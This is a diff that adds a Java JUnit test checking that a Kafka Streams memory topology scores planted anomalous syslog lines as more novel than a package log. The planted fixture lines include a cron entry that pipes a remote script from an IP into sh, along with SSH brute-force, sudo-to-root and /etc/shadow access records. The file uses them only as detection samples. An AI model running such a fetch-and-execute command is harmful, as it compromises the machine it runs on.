@@ -1,0 +1,353 @@
+package io.ltm.topology;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Instant;
+import java.util.ArrayList;
+import java.util.Arrays;
+import java.util.HashMap;
+import java.util.List;
+import java.util.Locale;
+import java.util.Map;
+import java.util.Properties;
+import java.util.Random;
+import java.util.UUID;
+
+import org.apache.kafka.common.serialization.ByteArraySerializer;
+import org.apache.kafka.common.serialization.StringDeserializer;
+import org.apache.kafka.streams.StreamsConfig;
+import org.apache.kafka.streams.TestInputTopic;
+import org.apache.kafka.streams.TestOutputTopic;
+import org.apache.kafka.streams.TopologyTestDriver;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+import io.ltm.model.CoefficientPrecision;
+import io.ltm.model.MemoryStateCodec;
+import io.ltm.model.encoder.EncodedText;
+import io.ltm.model.encoder.Encoders;
+import io.ltm.model.encoder.HashingEncoder;
+import io.ltm.model.encoder.TextEncoder;
+import io.ltm.schemas.EncodedTokens;
+import io.ltm.schemas.NoveltyScore;
+import io.ltm.schemas.SourcePosition;
+import io.ltm.schemas.serde.LtmSerdes;
+import io.ltm.topology.api.LtmConfig;
+import io.ltm.topology.api.MemoryTopology;
+import io.ltm.topology.internal.Names;
+import io.ltm.topology.internal.Novelty;
+
+/**
+ * Novelty scores through the real topology: a log with a planted stretch of a very different kind; the planted lines
+ * must score above the rest. With {@code -Dltm.novelty.log=FILE} (and optionally {@code -Dltm.novelty.encoder=minilm},
+ * {@code -Dltm.novelty.lines=N}) the same replay runs on a real log with the default memory and prints the measurement.
+ */
+class NoveltyTest {
+
+    /** Lines of a kind no package log has: kernel out-of-memory and disk errors. */
+    static final List<String> PLANTED = List.of(
+            "kernel: Out of memory: Killed process 31337 (java) total-vm:8123456kB, anon-rss:7340032kB",
+            "kernel: oom_reaper: reaped process 31337 (java), now anon-rss:0kB, file-rss:0kB",
+            "kernel: EXT4-fs error (device sda1): ext4_find_entry:1455: inode #2: comm ls: reading directory lblock 0",
+            "kernel: Buffer I/O error on dev sda1, logical block 0, lost async page write",
+            "sshd[4242]: Failed password for invalid user admin from 203.0.113.7 port 52211 ssh2",
+            "sshd[4243]: Failed password for root from 203.0.113.7 port 52213 ssh2",
+            "kernel: CPU3: Core temperature above threshold, cpu clock throttled (total events = 1)",
+            "kernel: mce: [Hardware Error]: Machine check events logged",
+            "smartd[812]: Device: /dev/sda [SAT], 8 Currently unreadable (pending) sectors",
+            "kernel: nvme nvme0: I/O 17 QID 3 timeout, aborting",
+            "systemd[1]: postgresql.service: Main process exited, code=killed, status=9/KILL",
+            "kernel: TCP: request_sock_TCP: Possible SYN flooding on port 443. Sending cookies.",
+            "sshd[4250]: Accepted publickey for root from 198.51.100.23 port 40022 ssh2",
+            "sudo: mallory : user NOT in sudoers ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash",
+            "kernel: usb 2-1: new high-speed USB device number 9 using xhci_hcd",
+            "kernel: Firewall: *INVALID* IN=eth0 OUT= SRC=192.0.2.66 DST=10.0.0.5 PROTO=TCP DPT=22",
+            "crond[991]: (root) CMD (curl -s http://192.0.2.66/x.sh | sh)",
+            "kernel: watchdog: BUG: soft lockup - CPU#1 stuck for 23s! [kworker/1:2:1888]",
+            "systemd-logind[620]: Power key pressed short, shutting down",
+            "kernel: audit: type=1400 apparmor=\"DENIED\" operation=\"open\" profile=\"nginx\" name=\"/etc/shadow\"");
+
+    @TempDir
+    Path stateDir;
+
+    private byte[] lastSummary;
+
+    static List<String> packageLog(int n, long seed) {
+        return NoveltyTestLogs.packageLog(n, seed);
+    }
+
+    static List<String> withPlanted(List<String> log, int at) {
+        List<String> out = new ArrayList<>(log.subList(0, at));
+        out.addAll(PLANTED);
+        out.addAll(log.subList(at, log.size()));
+        return out;
+    }
+
+    record Result(double[] novelty, int plantedFrom, long nanos) {
+        double meanPlanted() {
+            return Arrays.stream(novelty, plantedFrom, plantedFrom + PLANTED.size()).average().orElse(0);
+        }
+
+        double meanRest() {
+            double s = 0;
+            int n = 0;
+            for (int i = 0; i < novelty.length; i++) {
+                if (i < plantedFrom || i >= plantedFrom + PLANTED.size()) {
+                    s += novelty[i];
+                    n++;
+                }
+            }
+            return s / n;
+        }
+
+        /** Share of the planted lines among the top {@code share} of all lines by novelty. */
+        double plantedInTop(double share) {
+            Integer[] order = new Integer[novelty.length];
+            for (int i = 0; i < order.length; i++) {
+                order[i] = i;
+            }
+            Arrays.sort(order, (a, b) -> Double.compare(novelty[b], novelty[a]));
+            int top = Math.max(1, (int) Math.round(share * novelty.length));
+            int hit = 0;
+            for (int i = 0; i < top; i++) {
+                if (order[i] >= plantedFrom && order[i] < plantedFrom + PLANTED.size()) {
+                    hit++;
+                }
+            }
+            return hit / (double) PLANTED.size();
+        }
+
+        /** Median rank (1 = most novel) of the planted lines. */
+        double medianPlantedRank() {
+            Integer[] order = new Integer[novelty.length];
+            for (int i = 0; i < order.length; i++) {
+                order[i] = i;
+            }
+            Arrays.sort(order, (a, b) -> Double.compare(novelty[b], novelty[a]));
+            int[] rank = new int[novelty.length];
+            for (int i = 0; i < order.length; i++) {
+                rank[order[i]] = i + 1;
+            }
+            int[] pr = Arrays.copyOfRange(rank, plantedFrom, plantedFrom + PLANTED.size());
+            Arrays.sort(pr);
+            return (pr[pr.length / 2 - 1] + pr[pr.length / 2]) / 2.0;
+        }
+    }
+
+    private List<String> encodedLines;
+    private List<EncodedText> encodedCache;
+
+    /** The lines encoded in batches of 64 (cached for the last list of lines, so on/off replays encode once). */
+    private List<EncodedText> encoded(List<String> lines, TextEncoder encoder) {
+        if (lines != encodedLines) {
+            List<EncodedText> out = new ArrayList<>();
+            for (int i = 0; i < lines.size(); i += 64) {
+                out.addAll(encoder.encode(lines.subList(i, Math.min(lines.size(), i + 64))));
+            }
+            encodedLines = lines;
+            encodedCache = out;
+        }
+        return encodedCache;
+    }
+
+    /** Every line as one event of key "log" through the memory topology; the novelty of each, in order. */
+    Result replay(List<String> lines, int plantedFrom, TextEncoder encoder, Map<String, Object> extra, boolean novelty) {
+        Map<String, Object> m = new HashMap<>();
+        m.put(LtmConfig.SCHEMA_REGISTRY_URL, "mock://novelty-" + UUID.randomUUID());
+        m.put(LtmConfig.APPLICATION_ID, "ltm-novelty-test");
+        m.put(LtmConfig.BOOTSTRAP_SERVERS, "unused:9092");
+        m.put(LtmConfig.MEMORY_DIM, encoder.dimension());
+        m.put(LtmConfig.ENCODER, "none");
+        m.put(LtmConfig.NOVELTY_ENABLED, novelty);
+        m.putAll(extra);
+        LtmConfig config = new LtmConfig(m);
+        Properties p = new Properties();
+        p.putAll(config.streamsProperties());
+        p.put(StreamsConfig.STATE_DIR_CONFIG, stateDir.resolve(UUID.randomUUID().toString()).toString());
+        List<EncodedText> encoded = encoded(lines, encoder);
+        var ser = LtmSerdes.avro(EncodedTokens.class, config.serdeConfig()).serializer();
+        List<byte[]> values = new ArrayList<>();
+        for (int i = 0; i < lines.size(); i++) {
+            EncodedText e = encoded.get(i);
+            if (e.count() == 0) {
+                continue;
+            }
+            values.add(ser.serialize("ltm.tokens", EncodedTokens.newBuilder()
+                    .setVectors(MemoryStateCodec.block(e.vectors(), e.count(), encoder.dimension(), CoefficientPrecision.FLOAT16))
+                    .setTokens(e.tokens())
+                    .setText(lines.get(i))
+                    .setSource(SourcePosition.newBuilder().setTopic("ltm.events").setPartition(0).setOffset(i)
+                            .setTimestamp(Instant.ofEpochMilli(1_700_000_000_000L + i * 1000L)).build())
+                    .build()));
+        }
+        try (TopologyTestDriver d = new TopologyTestDriver(MemoryTopology.build(config, null), p)) {
+            ByteArraySerializer b = new ByteArraySerializer();
+            TestInputTopic<byte[], byte[]> in = d.createInputTopic("ltm.tokens", b, b);
+            byte[] key = "log".getBytes(StandardCharsets.UTF_8);
+            long t0 = System.nanoTime();
+            for (byte[] v : values) {
+                in.pipeInput(key, v);
+            }
+            long nanos = System.nanoTime() - t0;
+            if (!novelty) {
+                return new Result(new double[0], plantedFrom, nanos);
+            }
+            TestOutputTopic<String, NoveltyScore> out = d.createOutputTopic("ltm.novelty", new StringDeserializer(),
+                    LtmSerdes.avro(NoveltyScore.class, config.serdeConfig()).deserializer());
+            List<NoveltyScore> scores = out.readValuesToList();
+            assertThat(scores).hasSize(values.size());
+            double[] nov = new double[lines.size()];
+            for (NoveltyScore s : scores) {
+                nov[(int) s.getSource().getOffset()] = s.getNovelty();
+                assertThat(s.getText()).isEqualTo(lines.get((int) s.getSource().getOffset()));
+            }
+            lastSummary = (byte[]) d.getKeyValueStore(Names.STORE_NOVELTY).get("log");
+            assertThat(lastSummary).isNotNull();
+            return new Result(nov, plantedFrom, nanos);
+        }
+    }
+
+    @Test
+    void plantedLinesOfAnotherKindScoreAboveThePackageLog() {
+        List<String> log = packageLog(600, 11);
+        int at = 420;
+        List<String> lines = withPlanted(log, at);
+        Map<String, Object> small = Map.of(LtmConfig.MEMORY_BASIS_SIZE, 64, LtmConfig.MEMORY_CONTRACTION_LENGTH, 128,
+                LtmConfig.MEMORY_SAMPLES, 64, LtmConfig.MEMORY_BASIS_WIDTHS, "0.02,0.04");
+        try (HashingEncoder enc = new HashingEncoder(64)) {
+            Result r = replay(lines, at, enc, small, true);
+            System.out.printf(Locale.ROOT, "novelty: planted mean %.3f, rest mean %.3f, planted in top 5%%: %.2f, median rank %.1f of %d%n",
+                    r.meanPlanted(), r.meanRest(), r.plantedInTop(0.05), r.medianPlantedRank(), lines.size());
+            assertThat(r.novelty[0]).isEqualTo(1.0); // nothing to compare the first event with
+            assertThat(r.meanPlanted()).isGreaterThan(r.meanRest() + 0.1);
+            assertThat(r.plantedInTop(0.05)).isGreaterThanOrEqualTo(0.5);
+            // a repeated line right after its first occurrence is not new (short-term buffer)
+            List<String> rep = new ArrayList<>(log.subList(0, 50));
+            rep.add(log.get(49));
+            Result again = replay(rep, 0, enc, small, true);
+            assertThat(again.novelty[50]).isLessThan(0.05);
+        }
+    }
+
+    @Test
+    void aForgottenMemoryIsNotComparedWithAndRepeatsAreNotNew() {
+        Map<String, Object> m = new HashMap<>();
+        m.put(LtmConfig.SCHEMA_REGISTRY_URL, "mock://novelty-" + UUID.randomUUID());
+        m.put(LtmConfig.APPLICATION_ID, "ltm-novelty-test");
+        m.put(LtmConfig.BOOTSTRAP_SERVERS, "unused:9092");
+        m.put(LtmConfig.MEMORY_DIM, 64);
+        m.put(LtmConfig.ENCODER, "none");
+        m.put(LtmConfig.MEMORY_BASIS_SIZE, 64);
+        m.put(LtmConfig.MEMORY_CONTRACTION_LENGTH, 64);
+        m.put(LtmConfig.MEMORY_SAMPLES, 64);
+        m.put(LtmConfig.MEMORY_BASIS_WIDTHS, "0.02,0.04");
+        LtmConfig config = new LtmConfig(m);
+        Properties p = new Properties();
+        p.putAll(config.streamsProperties());
+        p.put(StreamsConfig.STATE_DIR_CONFIG, stateDir.resolve("forget").toString());
+        List<String> log = packageLog(60, 5);
+        try (HashingEncoder enc = new HashingEncoder(64);
+             TopologyTestDriver d = new TopologyTestDriver(MemoryTopology.build(config, null), p)) {
+            ByteArraySerializer b = new ByteArraySerializer();
+            TestInputTopic<byte[], byte[]> in = d.createInputTopic("ltm.tokens", b, b);
+            TestInputTopic<byte[], byte[]> control = d.createInputTopic("ltm.control", b, b);
+            TestOutputTopic<String, NoveltyScore> out = d.createOutputTopic("ltm.novelty", new StringDeserializer(),
+                    LtmSerdes.avro(NoveltyScore.class, config.serdeConfig()).deserializer());
+            var ser = LtmSerdes.avro(EncodedTokens.class, config.serdeConfig()).serializer();
+            byte[] key = "k".getBytes(StandardCharsets.UTF_8);
+            for (int i = 0; i < log.size(); i++) {
+                EncodedText e = enc.encode(log.get(i));
+                in.pipeInput(key, ser.serialize("ltm.tokens", EncodedTokens.newBuilder()
+                        .setVectors(MemoryStateCodec.block(e.vectors(), e.count(), 64, CoefficientPrecision.FLOAT32))
+                        .setSource(SourcePosition.newBuilder().setPartition(0).setOffset(i)
+                                .setTimestamp(Instant.ofEpochMilli(i)).build()).build()));
+            }
+            assertThat(Novelty.keys((byte[]) d.getKeyValueStore(Names.STORE_NOVELTY).get("k"))).isPositive();
+            List<NoveltyScore> before = out.readValuesToList();
+            assertThat(before).hasSize(log.size());
+            assertThat(before.get(before.size() - 1).getMemoryTokens()).isPositive();
+            // a line seen before (long-term by now) is not new
+            EncodedText again = enc.encode(log.get(3));
+            byte[] repeat = ser.serialize("ltm.tokens", EncodedTokens.newBuilder()
+                    .setVectors(MemoryStateCodec.block(again.vectors(), again.count(), 64, CoefficientPrecision.FLOAT32))
+                    .setSource(SourcePosition.newBuilder().setPartition(0).setOffset(99).setTimestamp(Instant.ofEpochMilli(99)).build())
+                    .build());
+            in.pipeInput(key, repeat);
+            assertThat(out.readValue().getNovelty()).isLessThan(0.3);
+            control.pipeInput(key, LtmSerdes.avro(io.ltm.schemas.ControlCommand.class, config.serdeConfig()).serializer()
+                    .serialize("ltm.control", io.ltm.schemas.ControlCommand.newBuilder()
+                            .setAction(io.ltm.schemas.ControlAction.FORGET).setCommandId("c1").setIssuedAt(Instant.now()).build()));
+            assertThat(d.getKeyValueStore(Names.STORE_NOVELTY).get("k")).isNull();
+            // after forget there is nothing to compare with: the same line is new again
+            in.pipeInput(key, repeat);
+            NoveltyScore after = out.readValue();
+            assertThat(after.getNovelty()).isEqualTo(1.0);
+            assertThat(after.getMemoryTokens()).isZero();
+            assertThat(after.getBestCosine()).isNull();
+        }
+    }
+
+    @Test
+    void withNoveltyDisabledThereIsNoNoveltyTopicOrStore() {
+        try (HashingEncoder enc = new HashingEncoder(16)) {
+            Result r = replay(packageLog(40, 3), 0, enc, Map.of(LtmConfig.MEMORY_BASIS_SIZE, 16,
+                    LtmConfig.MEMORY_CONTRACTION_LENGTH, 32, LtmConfig.MEMORY_SAMPLES, 16,
+                    LtmConfig.MEMORY_BASIS_WIDTHS, "0.05,0.1"), false);
+            assertThat(r.novelty).isEmpty();
+        }
+    }
+
+    /** The measurement on a real log: {@code -Dltm.novelty.log=/var/log/dpkg.log [-Dltm.novelty.encoder=minilm]}. */
+    @Test
+    void measureOnARealLog() throws IOException {
+        String file = System.getProperty("ltm.novelty.log");
+        org.junit.jupiter.api.Assumptions.assumeTrue(file != null, "set -Dltm.novelty.log=FILE to measure on a real log");
+        List<String> log = Files.readAllLines(Path.of(file)).stream().filter(s -> !s.isBlank()).toList();
+        int max = Integer.getInteger("ltm.novelty.lines", log.size());
+        log = log.subList(0, Math.min(max, log.size()));
+        int at = (int) (log.size() * 0.7);
+        List<String> lines = withPlanted(log, at);
+        String encName = System.getProperty("ltm.novelty.encoder", "hashing");
+        try (TextEncoder enc = Encoders.byName(encName, 384)) {
+            long te = System.nanoTime();
+            encoded(lines, enc);
+            long t0 = System.nanoTime();
+            replay(lines, at, enc, Map.of(), false); // warm-up: engine start, ridge matrices, JIT
+            long tw = System.nanoTime();
+            Result off = replay(lines, at, enc, Map.of(), false);
+            long t1 = System.nanoTime();
+            Result on = replay(lines, at, enc, Map.of(), true);
+            long t2 = System.nanoTime();
+            System.out.printf(Locale.ROOT, "novelty on %s (%d lines + %d planted at line %d, encoder %s): planted mean %.3f, "
+                            + "rest mean %.3f, planted in top 1%%: %.2f, top 5%%: %.2f, top 10%%: %.2f, median planted rank %.1f of %d%n",
+                    file, log.size(), PLANTED.size(), at, encName, on.meanPlanted(), on.meanRest(), on.plantedInTop(0.01),
+                    on.plantedInTop(0.05), on.plantedInTop(0.10), on.medianPlantedRank(), lines.size());
+            System.out.printf(Locale.ROOT, "ingest through the topology: novelty on %.1f us/event, off %.1f us/event "
+                            + "(difference %.1f us/event; replays %.1f s / %.1f s; encoding %.1f s)%n",
+                    on.nanos / 1e3 / lines.size(), off.nanos / 1e3 / lines.size(),
+                    (on.nanos - off.nanos) / 1e3 / lines.size(), (t2 - t1) / 1e9, (t1 - tw) / 1e9, (t0 - te) / 1e9);
+            // the scoring itself against the final summary (K keys, d = 384) and 32 short-term event means
+            float[] q = io.ltm.topology.internal.Novelty.unitMean(enc.encode(lines.get(at)).vectors(), enc.encode(lines.get(at)).count(), 384);
+            List<float[]> recent = new ArrayList<>();
+            for (int i = 0; i < 32; i++) {
+                recent.add(q);
+            }
+            double sink = 0;
+            for (int i = 0; i < 2000; i++) {
+                sink += io.ltm.topology.internal.Novelty.score(q, lastSummary, 384, recent).novelty();
+            }
+            long s0 = System.nanoTime();
+            for (int i = 0; i < 20000; i++) {
+                sink += io.ltm.topology.internal.Novelty.score(q, lastSummary, 384, recent).novelty();
+            }
+            long s1 = System.nanoTime();
+            System.out.printf(Locale.ROOT, "Novelty.score: %.1f us per event (%d long-term keys, 32 short-term means, summary %d bytes) %s%n",
+                    (s1 - s0) / 1e3 / 20000, io.ltm.topology.internal.Novelty.keys(lastSummary), lastSummary.length,
+                    sink > 0 ? "" : " ");
+        }
+    }
+}
